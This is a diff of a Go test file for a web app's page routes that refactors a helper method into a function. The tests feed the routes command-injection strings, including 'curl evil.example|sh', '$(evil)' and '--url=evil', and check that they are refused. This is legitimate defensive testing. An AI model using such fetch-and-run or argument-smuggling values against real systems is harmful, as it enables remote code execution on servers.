@@ -13,7 +13,7 @@ import (
 )
 
 // open follows an address as a browser does.
-func (w *world) open(path string) answer {
+func open(w *world, path string) answer {
 	w.t.Helper()
 	r, err := http.NewRequestWithContext(w.t.Context(), http.MethodGet, path, nil)
 	w.must(err)
@@ -40,7 +40,7 @@ func TestAppPages(t *testing.T) {
 			"/sites/o_1/docs":                       "wsctl sites list --published --org o_1<",
 			"/sites/o_1/docs/a%3Bcurl%20evil":       "wsctl sites list --published --org o_1<",
 		} {
-			if a := w.open(path); a.Status != http.StatusOK || !strings.Contains(string(a.Body), want) {
+			if a := open(w, path); a.Status != http.StatusOK || !strings.Contains(string(a.Body), want) {
 				t.Errorf("%s: %d %s", path, a.Status, a.Body)
 			}
 		}
@@ -49,13 +49,13 @@ func TestAppPages(t *testing.T) {
 				"x;curl evil.example|sh", "s_1;curl evil.example|sh", "$(evil)", "s_1 evil", "--url=evil", "-evil", "~evil", "s_1\nevil", "<b>evil", "evil/docs;evil",
 				strings.Repeat("evil", 50), "s_1~p_1~evil",
 			} {
-				if a := w.open(path + url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 && strings.Contains(string(a.Body), "evil") {
+				if a := open(w, path+url.PathEscape(text)); a.Status != http.StatusNotFound || len(a.Body) > 0 && strings.Contains(string(a.Body), "evil") {
 					t.Errorf("%s%s: %d %s", path, text, a.Status, a.Body)
 				}
 			}
 		}
 		for _, path := range []string{"/app/spaces/s_1~p_1", "/app/pages/s_1", "/app/spaces/o_1", "/app/tokens/t_1", "/app/integrations/-x", "/app/spaces/s_" + strings.Repeat("a", 200)} {
-			if a := w.open(path); a.Status != http.StatusNotFound {
+			if a := open(w, path); a.Status != http.StatusNotFound {
 				t.Errorf("%s: %d %s", path, a.Status, a.Body)
 			}
 		}
@@ -77,7 +77,7 @@ func TestAppAddresses(t *testing.T) {
 		for _, found := range appAddress.FindAllStringSubmatch(string(w.raw("admin", http.MethodGet, w.pathOf(row, s), nil).Body), -1) {
 			if kind := strings.Split(found[1], "/")[2]; !opened[found[1]] {
 				opened[kind], opened[found[1]] = true, true
-				if a := w.open(found[1]); a.Status != http.StatusOK {
+				if a := open(w, found[1]); a.Status != http.StatusOK {
 					t.Errorf("%s names %s, which answers %d", row.Name, found[1], a.Status)
 				}
 			}
